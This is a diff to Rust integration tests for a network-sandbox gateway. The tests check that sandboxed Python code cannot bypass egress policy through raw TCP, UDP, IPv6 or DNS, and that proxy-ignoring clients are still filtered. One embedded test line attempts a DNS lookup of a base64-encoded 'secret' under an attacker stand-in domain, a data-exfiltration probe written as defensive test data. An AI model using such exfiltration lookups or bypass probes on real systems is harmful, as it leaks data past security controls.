@@ -293,27 +293,27 @@ fn bypass_attempts_are_refused() {
         "a refused request reached the upstream"
     );
 
-    // Around the gateway: direct TCP to the host, UDP, DNS: the cell has no route at all.
+    // Around the proxy variables: direct TCP is redirected to the gateway and decided there (a
+    // destination no rule allows is closed); UDP, DNS and IPv6 get nowhere.
     let code = format!(
         "import socket, errno\n\
-         for family, kind, addr in [(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.2', {port})),\n\
-                                    (socket.AF_INET, socket.SOCK_DGRAM, ('8.8.8.8', 53)),\n\
+         s = socket.create_connection(('127.0.0.3', {port}), timeout=5); s.sendall(b'x')\n\
+         print('REACHED' if s.recv(10) else 'closed by the gateway')\n\
+         for family, kind, addr in [(socket.AF_INET, socket.SOCK_DGRAM, ('8.8.8.8', 53)),\n\
                                     (socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', 80))]:\n\
          \x20   s = socket.socket(family, kind)\n\
-         \x20   try:\n        s.connect(addr); s.send(b'x'); print('REACHED', addr)\n\
-         \x20   except OSError as e: print(errno.errorcode[e.errno])\n\
+         \x20   try:\n        s.connect(addr); s.send(b'x'); s.settimeout(2); s.recv(1); print('REACHED', addr)\n\
+         \x20   except OSError as e: print(errno.errorcode.get(e.errno, 'timeout'))\n\
          # A name that would carry data to an attacker's DNS server resolves nowhere.\n\
          try:\n    socket.getaddrinfo('c2VjcmV0.attacker.test', 80); print('RESOLVED')\n\
          except socket.gaierror: print('no resolution')",
         port = up.port
     );
     let ran = run_py(&["--rm", "--policy", &policy], &code);
-    assert!(
-        !ran.stdout.contains("REACHED") && !ran.stdout.contains("RESOLVED"),
+    assert_eq!(
+        ran.stdout, "closed by the gateway\nEPERM\nECONNREFUSED\nno resolution\n",
         "{ran:?}"
     );
-    assert_eq!(ran.stdout.lines().count(), 4, "{ran:?}");
-    assert!(ran.stdout.ends_with("no resolution\n"), "{ran:?}");
 }
 
 #[test]
@@ -483,4 +483,57 @@ fn chunked_uploads_pass_with_their_framing_checked() {
         ran.stdout, "200 upstream saw POST /upload HTTP/1.1\n",
         "{ran:?}"
     );
+}
+
+#[test]
+fn clients_that_ignore_the_proxy_variables_are_still_decided_by_the_gateway() {
+    let dir = tempdir();
+    let up = http_upstream();
+    let policy = net_policy(
+        dir.path(),
+        &format!(
+            "  allow:\n    - host: 127.0.0.2\n      ports: [{}]\n    - host: localhost\n",
+            up.port
+        ),
+    );
+    let name = unique("transparent");
+    let code = format!(
+        "import socket, json\n\
+         def raw(host_header, ip='127.0.0.2'):\n\
+         \x20   s = socket.create_connection((ip, {port}), timeout=5)\n\
+         \x20   s.sendall(f'GET /direct HTTP/1.1\\r\\nHost: {{host_header}}\\r\\nConnection: close\\r\\n\\r\\n'.encode())\n\
+         \x20   data = b''\n\
+         \x20   while True:\n        chunk = s.recv(4096)\n        if not chunk: break\n        data += chunk\n\
+         \x20   head, _, body = data.partition(b'\\r\\n\\r\\n')\n\
+         \x20   first = head.split(b'\\r\\n')[0].decode()\n\
+         \x20   return first + (' ' + json.loads(body)['reason'] if ' 403 ' in first else '')\n\
+         print(raw('127.0.0.2:{port}'))\n\
+         print(raw('localhost:{port}'))\n\
+         print(raw('127.0.0.3:{port}', ip='127.0.0.3'))",
+        port = up.port
+    );
+    let ran = run_py(&["--name", &name, "--policy", &policy], &code);
+    let lines: Vec<&str> = ran.stdout.lines().collect();
+    assert_eq!(lines.len(), 3, "{ran:?}");
+    assert_eq!(lines[0], "HTTP/1.1 200 OK", "{ran:?}");
+    // Allowed by name, but the name does not lead where the client connected.
+    assert!(
+        lines[1].starts_with("HTTP/1.1 403 Forbidden localhost does not resolve to 127.0.0.2"),
+        "{ran:?}"
+    );
+    assert!(
+        lines[2].starts_with("HTTP/1.1 403 Forbidden no rule allows"),
+        "{ran:?}"
+    );
+    assert_eq!(up.hits.load(Ordering::SeqCst), 1);
+    let net = Ran::from(warden().args(["net", &name, "--json"]).output().unwrap());
+    let decisions: serde_json::Value = serde_json::from_str(&net.stdout).unwrap();
+    let kinds: Vec<&str> = decisions
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|d| d["kind"].as_str().unwrap())
+        .collect();
+    assert_eq!(kinds, ["transparent"; 3], "{net:?}");
+    assert!(warden().args(["rm", &name]).status().unwrap().success());
 }
